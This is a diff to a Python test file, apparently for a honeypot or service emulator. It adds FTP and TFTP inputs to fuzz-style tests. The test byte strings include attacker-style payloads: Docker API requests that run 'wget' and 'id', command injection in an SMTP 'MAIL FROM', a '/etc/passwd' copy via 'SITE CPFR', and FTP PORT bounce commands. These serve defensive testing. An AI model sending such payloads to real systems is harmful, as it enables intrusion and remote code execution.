@@ -43,6 +43,9 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
+    "ftp": (
+        b"USER ftp\r\n", b"PASS a\r\n", b"PASV\r\n", b"RNFR /etc\r\n", b"PORT 198,51,100,7,195,80\r\n", b"STOR x\r\n",
+    ),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
@@ -91,6 +94,8 @@ WORDS = [
     b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
+    b"EPSV\r\n", b"STOR x\r\n", b"LIST\r\n", b"ABOR\r\n", b"SITE CPFR /etc/passwd\r\n", b"AUTH TLS\r\n",
+    b"\0\2a\0octet\0", b"\0\3\0\1abc", b"\0\1/etc/hostname\0octet\0blksize\x008\0",
     b"EHLO a\r\n", b"MAIL FROM:<;wget a/b;>\r\n", b"RCPT TO:<b>\r\n", b"DATA\r\n", b".\r\n", b"\r\n.",
     b"AUTH PLAIN\r\n", b"STARTTLS\r\n", b"STLS\r\n", b"USER root\r\n", b"PASS root\r\n",
     b"1 LOGIN root {4+}\r\nroot\r\n", b"1 STARTTLS\r\n",
@@ -100,7 +105,7 @@ WORDS = [
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp"), ("tftp", "udp")]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
@@ -191,7 +196,7 @@ def test_the_end_may_come_at_every_stage(name: str) -> None:
             table.say(everything[:end])
             if half:
                 table.tell(HalfClosed(table.at_s))
-                assert table.over or table.wishes, "a room that has nothing more to say hangs up"
+                assert table.over or table.wishes or table.side, "a room that has nothing more to say hangs up"
             table.tell(Ended(table.at_s))
             finish(table)
 
